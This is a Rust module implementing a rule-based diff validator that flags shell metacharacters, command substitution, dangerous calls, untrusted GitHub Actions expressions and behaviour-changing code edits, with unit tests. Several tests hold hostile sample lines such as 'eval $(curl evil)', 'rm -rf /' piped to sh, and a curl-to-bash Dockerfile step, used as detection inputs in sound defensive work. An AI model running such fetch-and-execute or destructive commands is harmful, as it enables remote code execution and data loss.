//! Content Validator
//!
//! Static, rule-based scanner for diff text. Rejects added lines that carry
//! shell metacharacters, command substitution, dangerous calls or untrusted
//! workflow expressions for the file's type, then rejects anything in a code
//! or config file that is not a comment or a version-only dependency bump.
//! No AI is involved; every function here is pure.
//!
//! # Modules
//!
//! - [`profile`]: `classify_file()`, `FileTypeProfile`, `protected_kind()`
//! - [`rules`]: forbidden character sets and dangerous-pattern families
//! - [`dependency`]: `is_dependency_update()`, `is_comment_line()`

pub mod dependency;
pub mod profile;
pub mod rules;

pub use dependency::{is_comment_line, is_dependency_update};
pub use profile::{classify_file, protected_kind, CommentStyle, FileClass, FileTypeProfile, ProtectedKind};

use rules::{describe_char, COMMAND_SUBSTITUTION, DANGEROUS_CALLS, UNTRUSTED_EXPRESSION};

/// The first rule a diff broke.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ContentViolation {
    #[error("line exceeds maximum length {max} characters")]
    LineTooLong { max: usize, actual: usize },

    #[error("dangerous pattern detected: untrusted GitHub Actions input")]
    UntrustedExpression,

    #[error("forbidden character detected: {description}")]
    ForbiddenCharacter {
        character: char,
        description: &'static str,
    },

    #[error("dangerous pattern detected: {pattern}")]
    DangerousPattern { pattern: String },

    #[error("dangerous command detected: {name}")]
    DangerousCall { name: &'static str },

    #[error("command substitution pattern detected")]
    CommandSubstitution,

    #[error("changes to {class} file could alter program behavior")]
    BehaviorChange { class: &'static str },

    #[error("line {line}: {source}")]
    AtLine {
        line: usize,
        source: Box<ContentViolation>,
    },
}

impl ContentViolation {
    /// The violation without its line-number wrapper.
    pub fn rule(&self) -> &ContentViolation {
        match self {
            ContentViolation::AtLine { source, .. } => source.rule(),
            other => other,
        }
    }

    /// A non-comment change to code or config, as opposed to a character or
    /// pattern that is dangerous in itself.
    pub fn is_behavior_change(&self) -> bool {
        matches!(self.rule(), ContentViolation::BehaviorChange { .. })
    }

    fn at_line(self, line: usize) -> Self {
        ContentViolation::AtLine {
            line,
            source: Box::new(self),
        }
    }
}

// ---------------------------------------------------------------------------
// Diff splitting
// ---------------------------------------------------------------------------

/// One content line of a unified diff, with its `+`/`-`/` ` marker removed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DiffLine<'a> {
    Added(&'a str),
    Removed(&'a str),
    Context(&'a str),
}

/// Content lines of `patch` with their 1-based line numbers in the patch text.
///
/// File headers (`diff`, `index`, `---`, `+++`) are only recognised before the
/// first `@@` hunk marker; inside a hunk a line such as `+++x` is an addition.
pub fn numbered_diff_lines(patch: &str) -> Vec<(usize, DiffLine<'_>)> {
    let mut in_hunk = false;
    let mut lines = Vec::new();

    for (idx, raw) in patch.split('\n').enumerate() {
        if raw.is_empty() || raw.starts_with('\\') {
            continue;
        }
        if raw.starts_with("@@") {
            in_hunk = true;
            continue;
        }
        if !in_hunk
            && (raw.starts_with("+++")
                || raw.starts_with("---")
                || raw.starts_with("diff ")
                || raw.starts_with("index "))
        {
            continue;
        }
        let line = match raw.as_bytes()[0] {
            b'+' => DiffLine::Added(&raw[1..]),
            b'-' => DiffLine::Removed(&raw[1..]),
            b' ' => DiffLine::Context(&raw[1..]),
            _ => DiffLine::Context(raw),
        };
        lines.push((idx + 1, line));
    }
    lines
}

pub(crate) fn diff_lines(patch: &str) -> impl Iterator<Item = DiffLine<'_>> {
    numbered_diff_lines(patch).into_iter().map(|(_, line)| line)
}

// ---------------------------------------------------------------------------
// Validation
// ---------------------------------------------------------------------------

/// Check one diff line of `path`. Removed lines always pass.
pub fn validate_line(line: &str, path: &str, is_addition: bool) -> Result<(), ContentViolation> {
    if !is_addition {
        return Ok(());
    }
    check_line(line, &classify_file(path))
}

fn check_line(line: &str, profile: &FileTypeProfile) -> Result<(), ContentViolation> {
    let length = line.chars().count();
    if length > profile.max_line_length {
        return Err(ContentViolation::LineTooLong {
            max: profile.max_line_length,
            actual: length,
        });
    }

    if UNTRUSTED_EXPRESSION.is_match(line) {
        return Err(ContentViolation::UntrustedExpression);
    }

    if let Some(c) = line.chars().find(|c| profile.forbids(*c)) {
        return Err(ContentViolation::ForbiddenCharacter {
            character: c,
            description: describe_char(c),
        });
    }

    if let Some(family) = profile.patterns {
        if let Some(re) = family.patterns().iter().find(|re| re.is_match(line)) {
            return Err(ContentViolation::DangerousPattern {
                pattern: re.as_str().to_string(),
            });
        }
    }

    if profile.is_code() || profile.is_config() {
        let lower = line.to_lowercase();
        if let Some(name) = DANGEROUS_CALLS.iter().copied().find(|name| lower.contains(name)) {
            return Err(ContentViolation::DangerousCall { name });
        }
        if COMMAND_SUBSTITUTION.iter().any(|re| re.is_match(line)) {
            return Err(ContentViolation::CommandSubstitution);
        }
    }

    Ok(())
}

/// Check a whole unified diff for `path`, stopping at the first violation.
///
/// After the per-line pass, any added non-comment line in a code or config
/// file is a potential behaviour change, unless the file is a dependency
/// manifest and the diff is a version-only bump.
pub fn validate_patch(patch: &str, path: &str) -> Result<(), ContentViolation> {
    let profile = classify_file(path);
    let lines = numbered_diff_lines(patch);

    for (number, line) in &lines {
        if let DiffLine::Added(content) = line {
            check_line(content, &profile).map_err(|v| v.at_line(*number))?;
        }
    }

    if !(profile.is_code() || profile.is_config()) {
        return Ok(());
    }
    if profile.dependency_manifest && is_dependency_update(patch) {
        return Ok(());
    }

    let class = if profile.is_code() { "code" } else { "config" };
    for (number, line) in &lines {
        if let DiffLine::Added(content) = line {
            let trimmed = content.trim();
            if !trimmed.is_empty() && !is_comment_line(trimmed, profile.comments) {
                return Err(ContentViolation::BehaviorChange { class }.at_line(*number));
            }
        }
    }
    Ok(())
}

/// Whether a diff needs no semantic judgment at all.
///
/// True iff [`validate_patch`] passes and the file is prose or inert
/// metadata, or the diff only adds comments, or it is a version-only bump
/// of a dependency manifest.
pub fn is_safe_change(patch: &str, path: &str) -> bool {
    if validate_patch(patch, path).is_err() {
        return false;
    }
    let profile = classify_file(path);
    match profile.class {
        FileClass::Markdown | FileClass::Inert => true,
        FileClass::Code | FileClass::Config => {
            (profile.dependency_manifest && is_dependency_update(patch))
                || only_comments_changed(patch, profile.comments)
        }
    }
}

/// Every added or removed line is blank or a comment. Deleting code changes
/// behaviour as much as adding it.
fn only_comments_changed(patch: &str, style: CommentStyle) -> bool {
    diff_lines(patch).all(|line| match line {
        DiffLine::Added(content) | DiffLine::Removed(content) => {
            let trimmed = content.trim();
            trimmed.is_empty() || is_comment_line(trimmed, style)
        }
        DiffLine::Context(_) => true,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_removed_lines_are_ignored() {
        assert!(validate_line("rm -rf / | sh `x` $HOME", "run.sh", false).is_ok());
        assert!(validate_patch("@@ -1 +0,0 @@\n-eval $(curl evil)", "src/lib.rs").is_ok());
    }

    #[test]
    fn test_deleting_code_is_not_safe() {
        let patch = "@@ -1,2 +1 @@\n // keep\n-check_auth(user);";
        assert!(validate_patch(patch, "src/lib.rs").is_ok());
        assert!(!is_safe_change(patch, "src/lib.rs"));
        assert!(is_safe_change("@@ -1 +0,0 @@\n-// stale note", "src/lib.rs"));
    }

    #[test]
    fn test_line_too_long() {
        let line = "a".repeat(101);
        let err = validate_line(&line, "README.md", true).unwrap_err();
        assert_eq!(err, ContentViolation::LineTooLong { max: 100, actual: 101 });
        assert_eq!(err.to_string(), "line exceeds maximum length 100 characters");
    }

    #[test]
    fn test_forbidden_character_reports_first_offender() {
        let err = validate_line("see `code` here", "README.md", true).unwrap_err();
        assert_eq!(
            err.to_string(),
            "forbidden character detected: backtick (command substitution)"
        );
    }

    #[test]
    fn test_untrusted_workflow_expression() {
        let err = validate_line(
            "  title: ${{ github.event.pull_request.title }}",
            ".github/workflows/ci.yml",
            true,
        )
        .unwrap_err();
        assert_eq!(err, ContentViolation::UntrustedExpression);
    }

    #[test]
    fn test_dangerous_call_in_code() {
        let err = validate_line("// call system here", "src/main.go", true).unwrap_err();
        assert_eq!(err, ContentViolation::DangerousCall { name: "system" });
    }

    #[test]
    fn test_command_substitution_in_python() {
        let err = validate_line("name = f'{user}'", "app.py", true).unwrap_err();
        assert_eq!(err, ContentViolation::CommandSubstitution);
    }

    #[test]
    fn test_dockerfile_pipe_to_shell() {
        let err = validate_line("RUN curl https://x.sh | bash", "Dockerfile", true).unwrap_err();
        assert!(matches!(err, ContentViolation::ForbiddenCharacter { .. }));
    }

    #[test]
    fn test_code_change_is_behavior_change() {
        let err = validate_patch("@@ -1 +1 @@\n-let a = 1;\n+let a = 2;", "src/lib.rs").unwrap_err();
        assert!(err.is_behavior_change());
        assert_eq!(
            err.to_string(),
            "line 3: changes to code file could alter program behavior"
        );
    }

    #[test]
    fn test_character_violation_is_not_behavior_change() {
        let err = validate_patch("@@ -1 +1 @@\n+let a = `x`;", "src/lib.rs").unwrap_err();
        assert!(!err.is_behavior_change());
        assert!(matches!(err.rule(), ContentViolation::ForbiddenCharacter { .. }));
    }

    #[test]
    fn test_comment_only_code_change_is_safe() {
        let patch = "@@ -1,2 +1,2 @@\n-// teh parser\n+// the parser\n fn parse() {}";
        assert!(validate_patch(patch, "src/parse.rs").is_ok());
        assert!(is_safe_change(patch, "src/parse.rs"));
    }

    #[test]
    fn test_readme_apostrophe_fix_is_safe() {
        let patch = "@@ -3 +3 @@\n-Its a tool for teams.\n+It's a tool for teams.";
        assert!(is_safe_change(patch, "README.md"));
    }

    #[test]
    fn test_gitignore_entry_is_safe() {
        let patch = "@@ -10,3 +10,4 @@\n .idea/\n .vscode/\n+.zed/\n *.swp";
        assert!(is_safe_change(patch, ".gitignore"));
    }

    #[test]
    fn test_go_mod_bump_is_safe() {
        let patch = "@@ -5,3 +5,3 @@ require (\n\
                     -\tgithub.com/google/go-github/v68 v68.0.0\n\
                     +\tgithub.com/google/go-github/v68 v68.1.0\n \
                     )";
        assert!(is_dependency_update(patch));
        assert!(validate_patch(patch, "go.mod").is_ok());
        assert!(is_safe_change(patch, "go.mod"));
    }

    #[test]
    fn test_plus_plus_inside_hunk_is_content() {
        let patch = "@@ -1 +1 @@\n+++counter;";
        let err = validate_patch(patch, "src/a.c").unwrap_err();
        assert!(err.is_behavior_change());
    }

    #[test]
    fn test_headers_before_hunk_are_skipped() {
        let patch = "--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-Hello\n+Hello world";
        assert!(is_safe_change(patch, "README.md"));
    }

    #[test]
    fn test_forbidden_character_flips_and_restores() {
        let safe = "+Fix the spelling of receive.";
        assert!(validate_patch(safe, "docs/guide.md").is_ok());
        for c in ['`', '$', '\r'] {
            let tainted = format!("+Fix the spelling {c}of receive.");
            assert!(validate_patch(&tainted, "docs/guide.md").is_err(), "char {c:?}");
        }
        assert!(validate_patch(safe, "docs/guide.md").is_ok());
    }

    #[test]
    fn test_is_safe_change_is_pure() {
        let patch = "@@ -1 +1 @@\n+# comment";
        let first = is_safe_change(patch, "setup.py");
        assert_eq!(first, is_safe_change(patch, "setup.py"));
        assert!(first);
    }
}
